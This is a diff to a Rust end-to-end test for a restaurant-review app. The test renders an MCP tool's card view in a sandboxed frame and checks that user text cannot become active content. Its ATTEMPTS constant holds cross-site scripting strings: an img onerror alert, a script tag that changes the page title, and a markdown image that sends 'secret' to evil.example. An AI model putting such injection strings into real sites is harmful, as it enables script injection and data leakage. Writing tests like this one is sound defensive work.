@@ -2,8 +2,13 @@
 
 #![expect(clippy::unwrap_used, reason = "a test fails by a panic")]
 
-use restaurant_tests::{browser::Browser, on_both_databases, product::Product};
-use thirtyfour::{By, WebDriver, WebElement, error::WebDriverResult, prelude::ElementWaitable};
+use restaurant_tests::{browser::Browser, mcp, on_both_databases, product::Product};
+use serde_json::{Value, json};
+use thirtyfour::{
+    By, WebDriver, WebElement,
+    error::WebDriverResult,
+    prelude::{ElementQueryable, ElementWaitable},
+};
 
 on_both_databases! {
     a_person_adds_a_restaurant_and_a_review_by_keyboard_and_mouse
@@ -154,5 +159,102 @@ async fn look_around(
         assert_eq!(brightness < 3 * 128, dark, "{background} on {name}");
         browser.screenshot(&format!("{page}-{name}")).await.unwrap();
     }
+    Ok(())
+}
+
+/// What a client shows around a view of a tool: the Content Security Policy that MCP Apps demands where a view names no domains.
+const VIEW_POLICY: &str = "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; \
+    img-src 'self' data:; media-src 'self' data:; connect-src 'none'; frame-src 'self'";
+
+/// Shows a view in a frame, and gives it the result of its tool.
+const SHOW_VIEW: &str = r#"
+    const [view, result] = arguments;
+    window.heard = [];
+    const frame = document.createElement("iframe");
+    frame.sandbox = "allow-scripts";
+    frame.srcdoc = view;
+    const send = (message) => frame.contentWindow.postMessage({ jsonrpc: "2.0", ...message }, "*");
+    window.addEventListener("message", ({ source, data }) => {
+        if (source !== frame.contentWindow) return;
+        window.heard.push(data.method ?? `answer ${data.id}`);
+        if (data.method === "ui/initialize") {
+            send({ id: data.id, result: { protocolVersion: "2026-01-26", hostContext: { theme: "dark" } } });
+        } else if (data.method === "ui/notifications/initialized") {
+            send({ method: "ui/notifications/tool-result", params: result });
+            send({ id: 7, method: "ui/resource-teardown", params: {} });
+        }
+    });
+    document.body.append(frame);
+"#;
+
+/// Texts that would be elements or links of the card.
+const ATTEMPTS: [&str; 3] = [
+    "<img src=x onerror=alert(1)><a href='https://evil.example'>x</a>",
+    "![x](https://evil.example/?q=secret) [x](https://evil.example)",
+    "</bdi></h1><script>document.title = 'taken'</script>",
+];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_card_shows_a_restaurant_and_nothing_in_it_is_active() {
+    let product = Product::on_sqlite().await.unwrap();
+    let request = async |message: Value| {
+        let answer = mcp::post(&reqwest::Client::new(), product.url("/mcp"), &message).send();
+        answer.await.unwrap().json::<Value>().await.unwrap()["result"].clone()
+    };
+    let restaurant = json!({
+        "restaurant_name": "<b>Bold</b>", "street_address": "<i>1</i>", "description": ATTEMPTS[0],
+    });
+    let made = request(mcp::tool_call("create_restaurant_mcp", &restaurant)).await;
+    let id = made["structuredContent"]["id"].clone();
+    for attempt in ATTEMPTS {
+        let review =
+            json!({"restaurant_id": id, "user_name": "Ann", "rating": 4, "review_text": attempt});
+        request(mcp::tool_call("create_review_mcp", &review)).await;
+    }
+    let details = request(mcp::tool_call("get_details_mcp", &json!({"restaurant_id": id}))).await;
+    let read = json!({"uri": "ui://restaurant-reviews/card"});
+    let view = request(mcp::request("resources/read", &read)).await;
+    let view = view["contents"][0]["text"].clone();
+
+    let page = async || {
+        let page = axum::response::Html("<!doctype html><title>Host</title><body>");
+        ([("content-security-policy", VIEW_POLICY)], page)
+    };
+    let app = axum::Router::new().route("/", axum::routing::get(page));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let host = format!("http://{}/", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    let browser = Browser::builder().size(600, 900).start().await.unwrap();
+    look_at_card(&browser, &host, vec![view, details]).await.unwrap();
+    browser.close().await.unwrap();
+}
+
+async fn look_at_card(browser: &Browser, host: &str, shown: Vec<Value>) -> WebDriverResult<()> {
+    let driver = browser.driver();
+    driver.goto(host).await?;
+    driver.execute(SHOW_VIEW, shown).await?;
+    driver.enter_frame(0).await?;
+    driver.query(By::Css("#reviews li:nth-child(3)")).first().await?;
+    let body = text(driver).await?;
+    for expected in ["<b>Bold</b>", "<i>1</i>", "4 of 5 · 3 reviews"].into_iter().chain(ATTEMPTS) {
+        assert!(body.contains(expected), "{expected} is not in {body}");
+    }
+    let elements = "return [...document.body.querySelectorAll('*')].map((it) => it.localName)";
+    let elements: Vec<String> = driver.execute(elements, vec![]).await?.convert()?;
+    let unknown: Vec<_> = elements
+        .iter()
+        .filter(|name| !["main", "h1", "bdi", "p", "ol", "li", "script"].contains(&name.as_str()))
+        .collect();
+    assert!(unknown.is_empty(), "{unknown:?}");
+    assert_eq!(elements.iter().filter(|name| *name == "script").count(), 1);
+    browser.screenshot("card").await.unwrap();
+    driver.enter_default_frame().await?;
+    let heard = driver.execute("return window.heard", vec![]).await?;
+    let heard: Vec<String> = heard.convert()?;
+    let mut order = heard.iter().filter(|it| !it.ends_with("size-changed"));
+    let expected = ["ui/initialize", "ui/notifications/initialized", "answer 7"];
+    assert!(expected.iter().all(|it| order.next().is_some_and(|heard| heard == it)), "{heard:?}");
+    assert!(heard.iter().any(|it| it == "ui/notifications/size-changed"), "{heard:?}");
+    assert_eq!(driver.title().await?, "Host");
     Ok(())
 }
